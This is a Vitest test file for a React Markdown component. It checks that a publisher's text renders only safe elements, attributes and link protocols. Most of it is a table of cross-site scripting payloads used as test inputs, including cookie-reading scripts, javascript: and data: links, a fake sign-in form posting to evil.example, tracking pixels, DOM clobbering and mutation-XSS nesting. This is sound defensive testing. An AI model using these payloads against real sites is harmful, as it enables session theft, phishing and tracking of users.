// @vitest-environment jsdom
import { MantineProvider } from '@mantine/core'
import { flushSync } from 'react-dom'
import { createRoot, type Root } from 'react-dom/client'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { Markdown } from './Markdown.js'

let root: Root
let page: HTMLElement
beforeEach(() => {
  window.matchMedia = () => ({ matches: false, addEventListener() {}, removeEventListener() {} }) as never
  page = document.createElement('div')
  document.body.append(page)
  root = createRoot(page)
})
afterEach(() => {
  root.unmount()
  page.remove()
})

/** Draws a text of a publisher. @returns what came of it, without the styles of the theme */
function draw(text: string): HTMLElement {
  flushSync(() =>
    root.render(
      <MantineProvider>
        <main>
          <Markdown text={text} />
        </main>
      </MantineProvider>,
    ),
  )
  return page.querySelector('main') as HTMLElement
}

const elementsOf = (drawn: HTMLElement) => [...drawn.querySelectorAll('*')]
/** All that a publisher's text may become. */
const harmless = new Set(
  'a blockquote br code del em h3 h4 h5 h6 hr li ol p pre strong sub sup table tbody td th thead tr ul'.split(' '),
)
/** `class` and `data-` come from the component kit, and the language of a piece of code. */
const harmlessAttributes = /^(href|target|rel|title|class|start|data-[a-z-]+)$/

function assertHarmless(drawn: HTMLElement): void {
  const elements = elementsOf(drawn)
  expect(elements.map(({ localName }) => localName).filter((name) => !harmless.has(name))).toEqual([])
  const attributes = elements.flatMap((element) => element.getAttributeNames())
  expect(attributes.filter((name) => !harmlessAttributes.test(name))).toEqual([])
  for (const link of drawn.querySelectorAll('a')) {
    // A link that leads nowhere is no harm; where it leads is for the browser to resolve.
    if (link.getAttribute('href')) expect(link.protocol).toMatch(/^(https?|mailto|xmpp|ircs?):$/)
    expect([link.target, link.rel]).toEqual(['_blank', 'noreferrer'])
  }
}

describe('the text of a publisher', () => {
  it('may have headings, lists, quotes, code and links', () => {
    const drawn = draw(
      '# Big\n\n### Small\n\n*one* **two** `three`\n\n- item\n\n> quote\n\n```js\ncode\n```\n\n[site](https://a.example/x "t")',
    )
    assertHarmless(drawn)
    expect(elementsOf(drawn).map(({ localName }) => localName)).toEqual(
      'h3 h3 p em strong code ul li blockquote p pre code p a'.split(' '),
    )
    expect(drawn.querySelector('a')?.href).toBe('https://a.example/x')
  })

  it.each([
    ['a script', '<script>window.stolen = document.cookie</script>'],
    ['a script in a paragraph', 'Hello <script src="https://evil.example/x.js"></script> there'],
    ['a script in capitals that is not closed', '<SCRIPT/SRC=https://evil.example/x.js>'],
    ['an event handler', '<b onmouseover="alert(1)">Look</b>'],
    ['a handler that runs by itself', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
    ['a handler of a picture that is missing', '<img src=x onerror=alert(1)>'],
    ['a link of a script', '[click](javascript:alert(1))'],
    ['a link of a script in capitals', '[click](JaVaScRiPt:alert(1))'],
    ['a link of a script with signs', '[click](&#106;avascript&colon;alert(1))'],
    ['a link of a script with a break in it', '[click](<java&#10;script:alert(1)>)'],
    ['a link of a script after a sign that is not seen', '[click](<&#1;javascript:alert(1)>)'],
    ['a link of a script by its name', '[click][1]\n\n[1]: javascript:alert(1)'],
    ['a link of a script in angles', '<javascript:alert(1)>'],
    ['a link of another kind of script', '[click](vbscript:msgbox(1))'],
    ['a link of a page in it', '[click](data:text/html,<script>alert(1)</script>)'],
    ['a link of a page in it, in base64', '[click](data:text/html;base64,PHNjcmlwdD4=)'],
    ['a link to a file', '[click](file:///etc/passwd)'],
    ['a link to bytes of this page', '[click](blob:https://app.example/1)'],
    ['a link of text', '<a href="javascript:alert(1)" onclick="alert(1)">click</a>'],
    ['a link that ends its own attribute', '[click](https://a.example/"onmouseover="alert(1))'],
    ['a title that ends its own attribute', '[click](https://a.example \'"onmouseover="alert(1)\')'],
    ['a picture of a stranger', '![seen](https://evil.example/pixel.gif)'],
    ['a picture in a link', '[![seen](https://evil.example/pixel.gif)](https://a.example)'],
    ['a picture by its name', '![seen][p]\n\n[p]: https://evil.example/pixel.gif'],
    ['a picture in it', '![seen](data:image/svg+xml;base64,PHN2Zz4=)'],
    ['a picture of a script', '![seen](javascript:alert(1))'],
    [
      'a picture with sources',
      '<picture><source srcset="https://evil.example/a"><img srcset="https://evil.example/b"></picture>',
    ],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['a frame of text', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
    ['a form', '<form action="https://evil.example"><input name=password><button>Sign in</button></form>'],
    ['a button that sends another form', '<button form="sign-in" formaction="https://evil.example">Go on</button>'],
    ['styles', '<style>* { background: url(https://evil.example) }</style>'],
    ['a style', '<p style="position:fixed;inset:0;background:url(https://evil.example)">over everything</p>'],
    ['a style sheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
    ['a drawing', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
    ['a drawing with a page in it', '<svg><foreignObject><iframe src="https://evil.example"></foreignObject></svg>'],
    [
      'a formula',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    ],
    ['a comment', 'before <!-- <img src=x onerror=alert(1)> --> after'],
    ['a comment that a browser ends early', '<!--><img src=x onerror=alert(1)>-->'],
    ['instructions for a browser', '<?xml-stylesheet href="javascript:alert(1)"?><!DOCTYPE x><![CDATA[<script>]]>'],
    ['names that hide what the page uses', '<a id=config name=config><a id=config name=url href=https://evil.example>'],
    ['names of parts of the page', '<div id="root" class="tn-card">x</div><img name=getElementById>'],
    ['another base', '<base href="https://evil.example/">'],
    ['another page after a while', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
    ['a plug-in', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
    ['a film', '<video src="https://evil.example/x" poster="https://evil.example/y" autoplay></video>'],
    ['a part of its own', '<x-part is="script"><template><script>alert(1)</script></template></x-part>'],
    ['words that are read from right to left', '\u202Egnihtemos\u202C <bdo dir=rtl>x</bdo>'],
    ['a language that is a class of this page', '```tn-card app-shell onclick=alert(1)\nx\n```'],
  ])('does nothing with %s', (_, text) => {
    const drawn = draw(`Before.\n\n${text}\n\nAfter.`)
    assertHarmless(drawn)
    expect(drawn.textContent).toMatch(/^Before\.[^]*After\.$/)
    // `language-…` of a piece of code, and what the component kit gives its links.
    const names = elementsOf(drawn).flatMap(({ classList }) => [...classList])
    expect(names.filter((name) => !/^(language-|mantine-|m_|__m)/.test(name))).toEqual([])
  })

  it.each([
    ['in a quote of many quotes', '> '.repeat(5_000)],
    ['in a list of many lists', Array.from({ length: 200 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n')],
    ['in stress of much stress', `${'*a _b '.repeat(1_600)}${'b_ a*'.repeat(1_600)}`],
    ['in brackets of many brackets', '['.repeat(5_000)],
    ['in numbers of many numbers', '1. '.repeat(3_000) + 'x'],
    ['long', '*a* '.repeat(5_001)],
  ])('is shown as it was written when it is %s', (_, text) => {
    const drawn = draw(text)
    expect(drawn.textContent).toBe(text)
    expect(elementsOf(drawn).map(({ localName }) => localName)).toEqual(['p'])
  })

  it.each([
    ['lists in lists', Array.from({ length: 12 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n'), 'ul'],
    ['as much as there may be', `*a*${'b'.repeat(19_997)}`, 'em'],
    ['a line of many signs', `a\n\n${'-'.repeat(200)}`, 'hr'],
    ['many brackets', `${'['.repeat(990)} *a*`, 'em'],
    ['stress of stress', `${'*a _b '.repeat(240)}${'b_ a*'.repeat(240)}`, 'em'],
    ['far code', `\`\`\`\n${' '.repeat(50)}x\n\`\`\``, 'pre'],
  ])('may be %s', (_, text, element) => {
    const drawn = draw(text)
    assertHarmless(drawn)
    expect(drawn.querySelector(element)).not.toBe(null)
  })
})
